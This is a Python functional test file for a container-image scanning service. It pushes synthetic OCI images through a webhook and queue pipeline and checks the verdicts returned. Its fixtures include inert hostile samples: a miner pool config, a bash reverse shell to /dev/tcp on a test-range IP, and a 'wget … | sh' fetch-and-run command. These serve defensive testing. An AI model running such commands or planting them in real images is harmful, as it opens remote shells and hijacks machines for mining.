"""Push to verdict, end to end: real registry → webhook → Redis → rq worker → store → API."""

from __future__ import annotations

import json
from pathlib import Path

import httpx
import pytest
import redis

from tests.support.oci import tar_layer, write_image_layout, write_index_layout
from tests.support.stack import Stack

pytestmark = pytest.mark.functional

# Inert reproductions (THREATS.md §1): test-range addresses, a synthetic wallet, no real binaries.
WALLET = "4A" + "1234567891ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"[:58] + "2" * 35  # synthetic
MINER_CONFIG = json.dumps(
    {
        "autosave": True,
        "donate-level": 1,
        "cpu": {"huge-pages": True, "max-threads-hint": 100},
        "randomx": {"1gb-pages": False},
        "pools": [{"url": "stratum+tcp://198.51.100.23:3333", "user": WALLET, "pass": "x", "keepalive": True}],
    },
    indent=2,
).encode()
REVERSE_SHELL = b"#!/bin/bash\nwhile true; do bash -i >& /dev/tcp/203.0.113.9/4444 0>&1; sleep 30; done\n"
CLEAN_APP = b"#!/bin/sh\nexec /usr/local/bin/app --listen :8080\n"


def _base_layer() -> object:
    return tar_layer({"etc/os-release": b"ID=debian\nVERSION_ID=12\n", "bin/sh": b"\x7fELF fake shell"})


def _malicious_layout(path: Path) -> str:
    payload = tar_layer({"opt/x/config.json": MINER_CONFIG, "usr/local/bin/start.sh": REVERSE_SHELL})
    return write_image_layout(
        path,
        [_base_layer(), payload],
        config={"config": {"Entrypoint": ["/usr/local/bin/start.sh"]}},
    )


def _clean_layout(path: Path) -> str:
    app = tar_layer({"usr/local/bin/entry.sh": CLEAN_APP, "usr/share/doc/app/README": b"A web app.\n"})
    return write_image_layout(path, [_base_layer(), app], config={"config": {"Cmd": ["/usr/local/bin/entry.sh"]}})


def _vet(stack: Stack, repository: str, tag: str) -> dict[str, object]:
    stack.wait_queued(repository, tag)
    stack.run_worker()
    response = stack.record(repository, f":{tag}")
    assert response.status_code == 200, response.text
    record: dict[str, object] = response.json()
    return record


def test_malicious_image_gets_malicious_and_quarantine_action(stack: Stack, tmp_path: Path) -> None:
    digest = _malicious_layout(tmp_path / "bad")
    stack.push(tmp_path / "bad", "library/tomcat", "8")
    record = _vet(stack, "library/tomcat", "8")
    assert record["digest"] == digest
    assert record["status"] == "done"
    assert record["verdict"] == "malicious"
    assert record["action"] == "quarantine"
    assert record["tags"] == ["8"]
    assert record["ruleset"]
    findings = record["findings"]
    assert isinstance(findings, list)
    categories = {f["category"] for f in findings}
    assert {"miner", "backdoor"} & categories
    paths = {f["path"] for f in findings}
    assert "/opt/x/config.json" in paths or "/usr/local/bin/start.sh" in paths
    for f in findings:
        if f["path"] in {"/opt/x/config.json", "/usr/local/bin/start.sh"}:
            assert f["layer"].startswith("sha256:")
            assert f["in_final_fs"] is True
            assert f["step"]  # aligned with the history entry that made the layer
            assert f["evidence"]
    # The same record by digest.
    by_digest = stack.record("library/tomcat", f"@{digest}")
    assert by_digest.status_code == 200
    assert by_digest.json()["verdict"] == "malicious"


def test_clean_image_gets_clean(stack: Stack, tmp_path: Path) -> None:
    _clean_layout(tmp_path / "good")
    stack.push(tmp_path / "good", "team/web", "1.0")
    record = _vet(stack, "team/web", "1.0")
    assert record["status"] == "done"
    assert record["verdict"] == "clean"
    assert record["action"] == "allow"
    assert record["findings"] == []


def test_multi_arch_index_scans_every_platform(stack: Stack, tmp_path: Path) -> None:
    clean = tar_layer({"usr/local/bin/entry.sh": CLEAN_APP})
    bad = tar_layer({"usr/local/bin/entry.sh": REVERSE_SHELL})
    write_index_layout(
        tmp_path / "multi",
        [
            (("linux", "amd64"), [_base_layer(), clean], {}),
            (("linux", "arm64"), [_base_layer(), bad], {}),
        ],
        attestation=True,
    )
    stack.push(tmp_path / "multi", "team/multi", "v1")
    record = _vet(stack, "team/multi", "v1")
    platforms = record["platforms"]
    assert isinstance(platforms, list)
    assert sorted(p["platform"] for p in platforms) == ["linux/amd64", "linux/arm64"]  # attestation skipped
    assert record["verdict"] in {"malicious", "suspicious"}
    findings = record["findings"]
    assert isinstance(findings, list)
    assert findings and {f["platform"] for f in findings} == {"linux/arm64"}


def test_payload_deleted_in_later_layer_is_still_found(stack: Stack, tmp_path: Path) -> None:
    drop = tar_layer({"tmp/.x/config.json": MINER_CONFIG})
    wipe = tar_layer({"tmp/.x/.wh.config.json": b""})
    write_image_layout(tmp_path / "hidden", [_base_layer(), drop, wipe])
    stack.push(tmp_path / "hidden", "team/hidden", "latest")
    record = _vet(stack, "team/hidden", "latest")
    hits = [f for f in record["findings"] if f["path"] == "/tmp/.x/config.json"]  # type: ignore[union-attr]
    assert hits, record["findings"]
    assert all(f["in_final_fs"] is False for f in hits)
    assert record["verdict"] != "clean"


def test_config_only_attack_is_caught(stack: Stack, tmp_path: Path) -> None:
    """Kinsing-style: stock filesystem, the payload is fetched by the CMD at run time."""
    cmd = "apt-get update && apt-get install -y wget cron; service cron start; wget -q -O - 203.0.113.7/d.sh | sh"
    write_image_layout(tmp_path / "cfg", [_base_layer()], config={"config": {"Cmd": ["/bin/sh", "-c", cmd]}})
    stack.push(tmp_path / "cfg", "library/ubuntu", "latest")
    record = _vet(stack, "library/ubuntu", "latest")
    assert record["verdict"] in {"malicious", "suspicious"}
    assert any(f["path"] is None for f in record["findings"])  # type: ignore[union-attr]


def test_redelivered_notification_creates_no_second_job(stack: Stack, tmp_path: Path) -> None:
    digest = _clean_layout(tmp_path / "img")
    stack.push(tmp_path / "img", "team/dup", "1")
    stack.wait_queued("team/dup", "1")
    envelope = {
        "events": [
            {
                "id": "5f1a2b3c-0000-4000-8000-000000000001",
                "action": "push",
                "target": {
                    "mediaType": "application/vnd.oci.image.manifest.v1+json",
                    "digest": digest,
                    "repository": "team/dup",
                    "tag": "1",
                    "size": 1,
                    "url": "http://198.51.100.1/must-not-be-fetched",
                },
            }
        ]
    }
    headers = {
        "Authorization": f"Bearer {stack.env['TOLLGATE_WEBHOOK_TOKEN']}",
        "Content-Type": "application/vnd.docker.distribution.events.v1+json",
    }
    for _ in range(3):
        response = httpx.post(stack.app.webhook_url, json=envelope, headers=headers, timeout=10)
        assert response.status_code == 202
    conn = redis.Redis.from_url(stack.env["TOLLGATE_REDIS_URL"])
    queued = sum(conn.llen(key) for key in conn.scan_iter("rq:queue:*"))
    assert queued == 1
    stack.run_worker()
    assert stack.record("team/dup", ":1").json()["status"] == "done"
    # After the verdict, a further redelivery still creates no job.
    response = httpx.post(stack.app.webhook_url, json=envelope, headers=headers, timeout=10)
    assert response.status_code == 202
    assert sum(conn.llen(key) for key in conn.scan_iter("rq:queue:*")) == 0


def test_webhook_without_token_is_refused(stack: Stack) -> None:
    response = httpx.post(
        stack.app.webhook_url,
        json={"events": []},
        headers={"Content-Type": "application/vnd.docker.distribution.events.v1+json"},
        timeout=10,
    )
    assert response.status_code == 401
